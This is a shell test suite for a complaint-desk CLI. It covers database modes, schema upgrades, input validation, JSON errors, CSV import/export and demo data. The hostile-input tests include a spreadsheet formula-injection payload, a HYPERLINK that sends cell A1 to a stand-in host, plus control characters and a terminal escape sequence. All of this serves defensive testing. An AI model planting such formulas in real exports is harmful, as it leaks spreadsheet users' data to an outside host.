# The database, import/export, demo data and hostile input.

test_database_created_private_and_versioned() {
	sqlite_only "its mode, its -wal and -shm, its user_version"
	phone_complaint 2026-11-02T09:00 >/dev/null
	assert_eq "$(stat -c %a "$DB")" 600 "database mode"
	assert_eq "$(sql 'pragma journal_mode')" wal
	assert_eq "$(sql 'pragma user_version')" 11
	# Its write-ahead log and shared memory are the owner's alone too.
	CDESK_NOW=2026-11-02T09:00 "$CDESK" --db "$DB" list >/dev/null
	for f in "$DB-wal" "$DB-shm"; do
		[ -f "$f" ] && assert_eq "$(stat -c %a "$f")" 600 "mode of $f"
	done
	# The default database lives under XDG_DATA_HOME.
	CDESK_NOW=2026-11-02T09:00 "$CDESK" new --channel phone --category other --customer a \
		--phone 13800000000 --description b >/dev/null
	[ -f "$XDG_DATA_HOME/cdesk/cdesk.db" ] || fail "no default database"
	assert_eq "$(stat -c %a "$XDG_DATA_HOME/cdesk")" 700
	# A database from a newer cdesk is refused, untouched.
	sql 'pragma user_version = 99'
	before=$(dbsum)
	expect_rc 5 desk list
	assert_contains "$ERR" "schema version 99, newer than this cdesk understands"
	assert_eq "$(dbsum)" "$before"
}

# Turn the test database back into what schema version $1 (1 to 8) was.
downgrade_to() {
	sql "drop table report_sums; delete from meta where key like 'report_sums%'; pragma user_version = 10"
	[ "$1" = 10 ] && return 0
	sql "drop table report_facts; pragma user_version = 9"
	[ "$1" = 9 ] && return 0
	sql "drop index events_report; create index events_report on events(at, kind, to_state, complaint_id)
		 where (kind = 'escalation' or kind = 'remedy' or kind = 'satisfaction' or kind = 'root_cause'
		 or (kind = 'step' and (to_state = 'resolved' or to_state = 'closed'
		 or to_state = 'withdrawn' or to_state = 'reopened'))); pragma user_version = 8"
	[ "$1" = 8 ] && return 0
	sql "drop index outbox_once; drop index outbox_recipient; alter table outbox drop column attachment;
		drop index outbox_next; alter table outbox rename to outbox_7;
		create table outbox(id integer primary key, complaint_id integer not null references complaints(id),
		 kind text not null, cause text not null, recipient text not null, channel text not null,
		 address text not null, lang text not null, subject text not null, body text not null,
		 created_at integer not null, due_at integer not null, state text not null default 'pending',
		 attempts integer not null default 0, next_at integer not null, last_error text, sent_at integer,
		 unique(complaint_id, kind, cause, recipient, channel, address));
		insert into outbox select * from outbox_7; drop table outbox_7;
		create index outbox_next on outbox(next_at, id) where state in ('pending','sending');
		pragma user_version = 7"
	[ "$1" = 7 ] && return 0
	sql "drop table outbox; alter table users drop column email; alter table users drop column webhook;
		alter table users drop column lang; pragma user_version = 6"
	[ "$1" = 6 ] && return 0
	sql "create index events_at on events(at); pragma user_version = 5"
	[ "$1" = 5 ] && return 0
	sql "drop index complaints_deadline; create index complaints_queue on complaints(next_due, id)
		 where state not in ('closed','withdrawn'); pragma user_version = 4"
	[ "$1" = 4 ] && return 0
	sql "drop trigger complaints_fts_i; drop trigger complaints_fts_u; drop trigger complaints_fts_d;
		drop table complaints_fts; alter table complaints drop column search;
		drop index events_report; drop index events_facts;
		create index events_report on events(at, kind, to_state, complaint_id)
		 where (kind in ('escalation','remedy','satisfaction','root_cause')
		 or (kind = 'step' and to_state in ('resolved','closed','withdrawn','reopened')));
		create index events_facts on events(complaint_id, id, at, kind, to_state)
		 where (kind in ('received','contact','feedback','promise','promise_kept','remedy',
		 'satisfaction','root_cause') or (kind = 'step' and to_state in ('resolved','withdrawn')));
		pragma user_version = 3"
	[ "$1" = 3 ] && return 0
	sql "drop table users; drop table audit; drop index complaints_awaiting;
		alter table events drop column hash; alter table events drop column salt;
		alter table complaints drop column awaiting; alter table complaints drop column ckey;
		drop trigger events_append_only_u;
		create trigger events_append_only_u before update on events
		 begin select raise(abort, 'the event log is append-only'); end;
		pragma user_version = 2"
	[ "$1" = 1 ] && sql 'drop index clocks_due; drop index complaints_closed; drop index events_report;
		drop index events_facts; pragma user_version = 1'
	return 0
}

test_older_databases_are_upgraded_in_place() {
	sqlite_only "databases of older SQLite schemas"
	for v in 1 2 3 4 5 6 7 8 9 10; do
		rm -f "$DB" "$DB-wal" "$DB-shm"
		id=$(phone_complaint 2026-11-02T09:00)
		phone_complaint 2026-11-02T09:10 >/dev/null
		downgrade_to $v
		events=$(sql "select count(*) from events where complaint_id = $id")
		at 2026-11-02T09:30 contact "$id" >/dev/null || fail "upgrade from $v refused"
		assert_eq "$(sql 'pragma user_version')" 11
		# The analysis's kept facts are built from the log, and its day
		# sums at the first change.
		assert_eq "$(sql 'select count(*) from report_facts')" 2
		assert_eq "$(sql "select count(*) from meta where key = 'report_sums'")" 1
		at 2026-11-02T09:31 report rebuild --check >/dev/null || fail "the sums made after upgrading from $v differ"
		# The outbox and the accounts' contact points are there.
		assert_eq "$(sql "select count(*) from sqlite_master where name in ('outbox', 'outbox_next', 'outbox_once', 'outbox_recipient')")" 4
		assert_eq "$(sql "select \"notnull\" from pragma_table_info('outbox') where name = 'complaint_id'")" 0
		assert_eq "$(sql "select count(*) from pragma_table_info('users') where name in ('email','webhook','lang')")" 3
		# The queue reads its order from an index.
		assert_contains "$(sql "explain query plan select c.id from complaints c where c.state not in ('closed','withdrawn') order by c.next_due is null, c.next_due, c.id limit 5")" "USING INDEX complaints_deadline"
		# The search index is built for the complaints already there.
		assert_eq "$(at 2026-11-02T09:31 list --text 13800 --json | jq length)" 2
		assert_eq "$(sql "select count(*) from complaints_fts where complaints_fts match '\"138001\"'")" 2
		# The analysis indexes are made again without IN lists.
		assert_eq "$(sql "select count(*) from sqlite_master where name like 'events_%' and sql like '% in (%'")" 0
		assert_eq "$(sql "select count(*) from sqlite_master where name in ('clocks_due','complaints_closed','events_report','events_facts','complaints_awaiting','users','audit')")" 7
		# Events are no longer indexed by time alone.
		assert_eq "$(sql "select count(*) from sqlite_master where name = 'events_at'")" 0
		assert_eq "$(sql "select count(*) from events where complaint_id = $id")" $((events + 1))
		# The events from before are linked into the chain, the same
		# customer keeps one key.
		assert_eq "$(sql 'select count(*) from events where hash is null')" 0
		at 2026-11-02T09:31 audit verify >/dev/null || fail "the chain does not hold after upgrading from $v"
		assert_eq "$(sql 'select count(distinct coalesce(ckey, id)) from complaints')" 1
	done
}

test_bad_database_files() {
	sqlite_only "files that are not a cdesk database"
	echo "not a database at all, just some text that is long enough" >"$WORK/text.db"
	expect_rc 5 "$CDESK" --db "$WORK/text.db" list
	assert_contains "$ERR" "is not a cdesk database"
	expect_rc 5 "$CDESK" --db "$WORK/no/such/dir/x.db" list
	assert_contains "$ERR" "its directory does not exist"
	expect_rc 5 "$CDESK" --db "$WORK" list
	assert_contains "$ERR" "is a directory"
	phone_complaint 2026-11-02T09:00 >/dev/null
	# The event log cannot be edited behind the program's back.
	if sqlite3 "$DB" "update events set note='x'" 2>"$WORK/err"; then fail "event update allowed"; fi
	assert_contains "$(cat "$WORK/err")" "cdesk_purge_in_progress"
	if sqlite3 "$DB" "delete from events" 2>"$WORK/err"; then fail "event delete allowed"; fi
}

test_read_only_database_changes_nothing() {
	sqlite_only "a read-only file"
	phone_complaint 2026-11-02T09:00 >/dev/null
	sqlite3 "$DB" 'pragma wal_checkpoint(TRUNCATE)' >/dev/null
	chmod 444 "$DB"
	chmod 755 "$WORK"
	# Root ignores file modes: act as an unprivileged user instead.
	run=""
	[ "$(id -u)" = 0 ] && run="setpriv --reuid=65534 --regid=65534 --clear-groups"
	before=$(dbsum)
	expect_rc 5 env CDESK_NOW=2026-11-02T09:10 $run "$CDESK" --db "$DB" step 1 listen
	assert_contains "$ERR" "read-only"
	assert_eq "$(dbsum)" "$before"
}

test_bad_fields_are_refused_and_change_nothing() {
	phone_complaint 2026-11-02T09:00 >/dev/null
	before=$(dbsum)
	base="new --category other --customer a --phone 13800000000 --description b"
	expect_rc 7 at 2026-11-02T10:00 $base --channel tv
	assert_contains "$ERR" "unknown channel 'tv' (known: walk_in, phone"
	expect_rc 7 at 2026-11-02T10:00 new --channel walk_in --category other --phone 13800000000 --description b
	assert_contains "$ERR" "the field 'customer' is required to record the complaint"
	expect_rc 7 at 2026-11-02T10:00 new --channel phone --customer a
	assert_contains "$ERR" "the field 'description' is required"
	expect_rc 7 at 2026-11-02T10:00 $base --channel phone --site nowhere
	assert_contains "$ERR" "unknown site 'nowhere'"
	expect_rc 7 at 2026-11-02T10:00 new --channel phone --category other --customer a --phone 'call me' --description b
	assert_contains "$ERR" "phone 'call me'"
	expect_rc 7 at 2026-11-02T10:00 new --channel phone --category other --customer "$(printf 'a\001b')" \
		--phone 13800000000 --description b
	assert_contains "$ERR" "control characters"
	expect_rc 7 at 2026-11-02T10:00 new --channel phone --category other --customer "$(printf 'a\377b')" \
		--phone 13800000000 --description b
	assert_contains "$ERR" "invalid UTF-8"
	expect_rc 7 at 2026-11-02T10:00 $base --channel phone --need money
	assert_contains "$ERR" "unknown need 'money'"
	expect_rc 7 at 2026-11-02T10:00 new --channel phone --category other --customer a --phone 13800000000 \
		--description "$(head -c 30000 /dev/zero | tr '\0' x)"
	assert_contains "$ERR" "longer than 20000 bytes"
	expect_rc 7 at 2026-11-02T10:00 $base --channel phone --received 2026-11-03T10:00
	assert_contains "$ERR" "in the future"
	expect_rc 2 at 2026-11-02T10:00 $base --channel phone --received 2026-02-30
	assert_contains "$ERR" "'2026-02-30' is not a valid time"
	expect_rc 2 "$CDESK" --db "$DB" --now tomorrow list
	assert_contains "$ERR" "'tomorrow' is not a valid time"
	expect_rc 2 "$CDESK" --db "$DB" --lang fr list
	expect_rc 2 at 2026-11-02T10:00 remedy 1 refund --amount lots
	expect_rc 7 at 2026-11-02T10:00 remedy 1 bribe
	assert_contains "$ERR" "unknown remedy 'bribe'"
	expect_rc 2 at 2026-11-02T10:00 satisfaction 1 --outcome 6 --procedure 1 --treatment 1 --satisfied
	assert_contains "$ERR" "--outcome must be a whole number from 1 to 5"
	expect_rc 7 at 2026-11-02T10:00 note 1 ""
	expect_rc 7 at 2026-11-02T10:00 contact 1 --how "$(printf '\033[2J')"
	assert_contains "$ERR" "unknown way of contact"
	assert_eq "$(dbsum)" "$before" "database after refused input"
}

# Under --json a script reads what went wrong as JSON too: one line on
# standard error, its kind and exit status the ones the command exits with.
test_errors_under_json_are_json() {
	phone_complaint 2026-11-02T09:00 >/dev/null
	json_error() { # WANT-EXIT KIND ARGS…
		exit_want=$1 kind=$2
		shift 2
		expect_rc "$exit_want" "$@"
		[ -z "$OUT" ] || fail "$*: printed an answer: $OUT"
		[ "$(echo "$ERR" | wc -l)" = 1 ] || fail "$*: not one line: $ERR"
		assert_eq "$(echo "$ERR" | jq -r '.error.kind')" "$kind" "$*: kind"
		assert_eq "$(echo "$ERR" | jq -r '.error.exit')" "$exit_want" "$*: exit"
		echo "$ERR" | jq -e '.error.message | length > 0' >/dev/null || fail "$*: no message"
	}
	json_error 4 not_found at 2026-11-02T10:00 --json show 99
	json_error 2 usage desk --json --bogus list
	json_error 2 usage desk show x --json
	json_error 2 usage desk --json frob
	assert_eq "$(echo "$ERR" | jq -r .error.hint)" "Try 'cdesk --help'."
	json_error 2 usage desk show --json
	assert_eq "$(echo "$ERR" | jq -r .error.command)" show
	json_error 7 input at 2026-11-02T10:00 --json new --channel nope --description x
	json_error 6 state at 2026-11-02T10:00 --json resume 1
	json_error 3 config env CDESK_CONFIG=/nonexistent.yaml "$CDESK" --db "$DB" --json list
	json_error 5 database "$CDESK" --db "$WORK" --json list
	# In the desk's language, as the text is.
	json_error 4 not_found env CDESK_LANG=zh_CN "$CDESK" --db "$DB" --json show 99
	assert_contains "$(echo "$ERR" | jq -r .error.message)" "#99"
	assert_not_contains "$ERR" "no complaint"
	# A warning is one line too, and the answer still comes.
	expect_rc 0 "$CDESK" --db "$WORK/new.db" --json list
	assert_eq "$(echo "$ERR" | jq -r '.warning.message')" \
		"there was no database at $WORK/new.db: a new, empty one was made"
	assert_eq "$OUT" "[]"
	# On a server the database was there: only the desk's tables were made.
	if on_pg; then
		psql -XAtq -d postgres -c "CREATE DATABASE ${DB##*/}_fresh" >/dev/null || fail "cannot make a database"
		expect_rc 0 "$CDESK" --db "${DB}_fresh" list
		assert_eq "$ERR" "cdesk: the database ${DB}_fresh had no desk in it: its tables were made"
	fi
	# Without --json, text as before.
	expect_rc 4 desk show 99
	assert_eq "$ERR" "cdesk: no complaint #99"
}

test_export_import_round_trip() {
	phone_complaint 2026-11-02T09:00 --plate "沪A12345" >/dev/null
	at 2026-11-02T10:00 new --channel email --category service_attitude --customer 'Li "Lucky" Lei' \
		--phone 13500000001 --description "$(printf 'Line one, with a comma\nline two')" >/dev/null
	at 2026-11-02T11:00 export --format csv >"$WORK/out.csv"
	assert_eq "$(head -1 "$WORK/out.csv" | cut -d, -f1-4)" "id,state,site,channel"
	rm -f "$WORK/b.db"
	out=$(CDESK_NOW=2026-11-03T09:00 "$CDESK" --db "$WORK/b.db" import "$WORK/out.csv")
	assert_contains "$out" "Imported 2 complaints."
	assert_eq "$(sqlite3 "$WORK/b.db" "select customer from complaints where channel='email'")" 'Li "Lucky" Lei'
	assert_eq "$(sqlite3 "$WORK/b.db" "select description from complaints where id=2")" \
		"$(printf 'Line one, with a comma\nline two')"
	assert_eq "$(sqlite3 "$WORK/b.db" "select received_at from complaints order by id")" \
		"$(sql 'select received_at from complaints order by id')"
	json=$(at 2026-11-02T11:00 export --format json)
	assert_eq "$(jqs "$json" 'length')" 2
	assert_eq "$(jqs "$json" '.[0].clocks | length')" 2
}

# What a customer typed cannot run as a formula in the supervisor's
# spreadsheet, and the guard comes off again on import.
test_export_is_safe_in_a_spreadsheet() {
	at 2026-11-02T09:00 new --channel phone --category service_attitude --customer '@SUM(A1)' \
		--phone '+8613900000000' --plate "'-5" --description '=HYPERLINK("http://x.example/?"&A1,"退款")' \
		--request "'=1+1" --reference "'plain" >/dev/null
	at 2026-11-02T11:00 export >"$WORK/out.csv"
	row=$(sed -n 2p "$WORK/out.csv")
	assert_contains "$row" ",'@SUM(A1),'+8613900000000,''-5,'plain,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"退款\"\")\",''=1+1,"
	# No cell of the file begins with a formula character, read as a
	# spreadsheet reads it (sqlite3's own CSV reader).
	sqlite3 "$WORK/cells.db" ".import --csv $WORK/out.csv x"
	cols=$(sqlite3 "$WORK/cells.db" "select group_concat('(substr(\"' || name || '\", 1, 1) in (''='', ''+'', ''-'', ''@'', char(9), char(13)))', ' + ') from pragma_table_info('x')")
	assert_eq "$(sqlite3 "$WORK/cells.db" "select sum($cols) from x")" 0 "cells a spreadsheet would run"
	rm -f "$WORK/b.db"
	CDESK_NOW=2026-11-03T09:00 "$CDESK" --db "$WORK/b.db" import "$WORK/out.csv" >/dev/null || fail "cannot import"
	for f in customer phone plate reference description request; do
		assert_eq "$(sqlite3 "$WORK/b.db" "select $f from complaints")" "$(sql "select $f from complaints")" "$f"
	done
	# --raw: the cells as stored.
	assert_contains "$(at 2026-11-02T11:00 export --raw | sed -n 2p)" ",@SUM(A1),+8613900000000,'-5,'plain,\"=HYPERLINK("
}

# The file is read a buffer (64 KiB) at a time: records that cross from one
# to the next, and line numbers after many of them, come out whole.
test_import_reads_a_large_file_in_pieces() {
	long=$(printf '加油机显示%.0s' $(seq 20))
	{
		printf '\xEF\xBB\xBFchannel,category,customer,phone,description,received\n'
		for i in $(seq 1000 1999); do
			printf 'phone,other,客户%s,1380000%s,"%s, ""%s""\n第二行",2026-11-01T10:00\n' "$i" "$i" "$long" "$i"
		done
	} >"$WORK/big.csv"
	[ "$(stat -c %s "$WORK/big.csv")" -gt 200000 ] || fail "the file is too small to cross buffers"
	cp "$WORK/big.csv" "$WORK/bad.csv"
	printf 'phone,other,坏,13800000000,"never closed\n' >>"$WORK/bad.csv"
	phone_complaint 2026-11-02T09:00 >/dev/null
	before=$(dbsum)
	expect_rc 7 at 2026-11-02T10:00 import "$WORK/bad.csv"
	# 1 header line, then 1000 records of 2 lines each.
	assert_contains "$ERR" "bad.csv:2002: a quoted field is not closed"
	assert_eq "$(dbsum)" "$before"
	at 2026-11-02T10:00 import "$WORK/big.csv" >/dev/null || fail "the large file was refused"
	assert_eq "$(sql 'select count(*) from complaints')" 1001
	assert_eq "$(sql "select count(*) from complaints where description = '$long, \"' || substr(phone, 8) || '\"' || char(10) || '第二行'")" 1000
	assert_eq "$(at 2026-11-02T10:00 list --text 客户1999 --json | jq '.[0].phone' -r)" 13800001999
	# On a terminal the import shows how far it is, then clears the line.
	script -qec "env CDESK_NOW=2026-11-02T10:00 '$CDESK' --db '$DB' import '$WORK/big.csv'" /dev/null |
		tr '\r' '\n' | sed 's/\x1b\[K//g' >"$WORK/tty"
	assert_contains "$(cat "$WORK/tty")" "importing: 1000 rows read"
	assert_contains "$(cat "$WORK/tty")" "[##############################] 100%"
	assert_contains "$(cat "$WORK/tty")" "saving 1000 rows…"
	assert_eq "$(grep -v '^$' "$WORK/tty" | tail -1)" "Imported 1000 complaints."
	# Not when its output goes to a file.
	at 2026-11-02T10:00 import "$WORK/big.csv" >"$WORK/out" 2>"$WORK/err"
	assert_eq "$(cat "$WORK/err")" "" "the import's messages into a file"
}

test_import_is_all_or_nothing() {
	phone_complaint 2026-11-02T09:00 >/dev/null
	before=$(dbsum)
	printf 'channel,category,customer,phone,description,received\n' >"$WORK/in.csv"
	printf 'phone,other,甲,13800000001,ok,2026-11-01T10:00\n' >>"$WORK/in.csv"
	printf 'phone,other,乙,13800000002,"quoted, fine",2026-11-01T11:00\n' >>"$WORK/in.csv"
	printf 'fax,other,丙,13800000003,bad channel,2026-11-01T12:00\n' >>"$WORK/in.csv"
	expect_rc 7 at 2026-11-02T10:00 import "$WORK/in.csv"
	assert_contains "$ERR" "in.csv:4: unknown channel 'fax'"
	assert_eq "$(dbsum)" "$before" "database after a failed import"
	printf 'channel,customer\nphone,x\n' >"$WORK/h.csv"
	expect_rc 7 at 2026-11-02T10:00 import "$WORK/h.csv"
	assert_contains "$ERR" "h.csv:1: the required column 'description' is missing"
	printf 'channel,category,customer,phone,description,colour\n' >"$WORK/c.csv"
	expect_rc 7 at 2026-11-02T10:00 import "$WORK/c.csv"
	assert_contains "$ERR" "unknown column 'colour'"
	printf 'channel,category,customer,phone,description\nphone,other,a,13800000000,"unclosed\n' >"$WORK/q.csv"
	expect_rc 7 at 2026-11-02T10:00 import "$WORK/q.csv"
	assert_contains "$ERR" "q.csv:2: a quoted field is not closed"
	# Blank lines before a record count in the line it is said to be on.
	printf 'channel,description\n\n\nfax,x\n' >"$WORK/b.csv"
	expect_rc 7 at 2026-11-02T10:00 import "$WORK/b.csv"
	assert_contains "$ERR" "b.csv:4: unknown channel 'fax'"
	expect_rc 7 at 2026-11-02T10:00 import "$WORK/nothing.csv"
	assert_eq "$(dbsum)" "$before"
	# The good rows alone import, through the same rules as typed complaints.
	head -3 "$WORK/in.csv" >"$WORK/good.csv"
	assert_contains "$(at 2026-11-02T10:00 import "$WORK/good.csv")" "Imported 2 complaints."
	assert_eq "$(sql 'select count(*) from complaints')" 3
	assert_eq "$(sql "select count(*) from events where kind='received'")" 3
}

# An import is one bulk load, where the store keeps back and batches what
# each complaint writes; typing the same complaints one `new` at a time
# writes each at once. Both must leave the same complaints, log, clocks,
# escalations and report, and chains that hold.
test_import_is_the_same_as_typing_each_complaint() {
	export VALGRIND_SKIP=1 # the data and the typed reference: the import is what is tested
	CDESK_NOW=2026-11-01T12:00 "$CDESK" --db "$WORK/demo.db" demo --count 300 --seed 5 >/dev/null
	CDESK_NOW=2026-11-01T12:00 "$CDESK" --db "$WORK/demo.db" export >"$WORK/in.csv"
	VALGRIND_SKIP= at 2026-11-01T12:00 import "$WORK/in.csv" >/dev/null || fail "cannot import"
	python3 - "$CDESK" "$WORK/typed.db" "$WORK/in.csv" <<-'PY' || fail "cannot type the complaints"
	import csv, os, subprocess, sys
	cdesk, db, path = sys.argv[1:4]
	env = dict(os.environ, CDESK_NOW="2026-11-01T12:00")
	skip = {"id", "state", "updated", "resolved", "closed", "escalation_level", "escalated_to", "reopened"}
	for row in csv.DictReader(open(path, encoding="utf-8")):
	    args = [cdesk, "--db", db, "new"]
	    for k, v in row.items():
	        rest = v.lstrip("'")
	        if v[:1] == "'" and rest[:1] != "" and rest[:1] in "=+-@\t\r":
	            v = v[1:]  # the export's guard against formulas, as import takes it off
	        if k not in skip and v != "":
	            args += ["--" + k, v]
	    subprocess.run(args, env=env, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
	PY
	unset VALGRIND_SKIP
	rows() {
		sqlite3 "$1" "select * from complaints; select * from clocks; select * from escalations;
			select * from outbox; select id, complaint_id, at, actor, kind, from_state, to_state, note, data,
			salt is null from events" | md5sum
	}
	assert_eq "$(rows "$(sqlite_view)")" "$(rows "$WORK/typed.db")" "imported and typed"
	# A load this large against its database builds some indexes at its end:
	# they must be the same indexes, holding every row.
	if ! on_pg; then
		schema="select type, name, tbl_name, sql from sqlite_master order by name"
		assert_eq "$(sql "$schema" | md5sum)" "$(sqlite3 "$WORK/typed.db" "$schema" | md5sum)" "the schema"
		assert_eq "$(sql 'pragma integrity_check')" ok
	fi
	[ "$(sql "select count(*) from events where kind = 'escalation'")" -gt 100 ] || fail "too few escalations"
	[ "$(sql "select count(*) from events where kind = 'contact'")" -gt 10 ] || fail "too few walk-ins"
	for way in imported typed; do
		db=$DB
		[ $way = typed ] && db=$WORK/typed.db
		CDESK_NOW=2026-11-01T12:00 "$CDESK" --db "$db" audit verify >/dev/null || fail "the chain of $db"
		CDESK_NOW=2026-11-01T12:00 "$CDESK" --db "$db" export >"$WORK/$way.csv"
		CDESK_NOW=2026-11-01T12:00 "$CDESK" --db "$db" report --month 2026-10 --format json >"$WORK/$way.json"
	done
	cmp -s "$WORK/imported.csv" "$WORK/typed.csv" || fail "the exports differ"
	cmp -s "$WORK/imported.json" "$WORK/typed.json" || fail "the reports differ"
}

test_demo_data_is_deterministic_and_realistic() {
	at 2026-11-20T12:00 demo --count 150 --seed 7 >/dev/null
	VALGRIND_SKIP=1 CDESK_NOW=2026-11-20T12:00 "$CDESK" --db "$WORK/b.db" demo --count 150 --seed 7 >/dev/null
	# Everything but the random salts of personal values and the hashes
	# that cover them.
	same() {
		for q in "select * from complaints order by id" "select * from clocks order by 1, 2, 3" \
			"select * from escalations order by 1, 2" \
			"select id, complaint_id, at, actor, kind, from_state, to_state, note, data from events order by id"; do
			if [ "$1" = "$DB" ]; then sql "$q"; else sqlite3 "$1" "$q"; fi
		done | md5sum
	}
	assert_eq "$(same "$WORK/b.db")" "$(same "$DB")" "same seed, same data"
	assert_eq "$(sql 'select count(*) from complaints')" 150
	# Spread over sites, channels and states, with escalations and satisfaction.
	[ "$(sql 'select count(distinct site) from complaints')" -ge 3 ] || fail "sites"
	[ "$(sql 'select count(distinct channel) from complaints')" -ge 5 ] || fail "channels"
	[ "$(sql 'select count(distinct state) from complaints')" -ge 3 ] || fail "states"
	[ "$(sql "select count(*) from complaints where state='closed'")" -ge 50 ] || fail "closed"
	[ "$(sql "select count(*) from events where kind='escalation'")" -ge 5 ] || fail "escalations"
	[ "$(sql "select count(*) from events where kind='satisfaction'")" -ge 50 ] || fail "satisfaction"
	# Every complaint's row agrees with its log: state = last step's target.
	assert_eq "$(sql "select count(*) from complaints c where c.state <> (select to_state from events e
		where e.complaint_id=c.id and e.to_state is not null order by e.id desc limit 1)")" 0
	VALGRIND_SKIP=1 CDESK_NOW=2026-11-20T12:00 "$CDESK" --db "$WORK/c.db" demo --count 150 --seed 8 >/dev/null
	[ "$(same "$WORK/c.db")" != "$(same "$DB")" ] || fail "seed ignored"
}
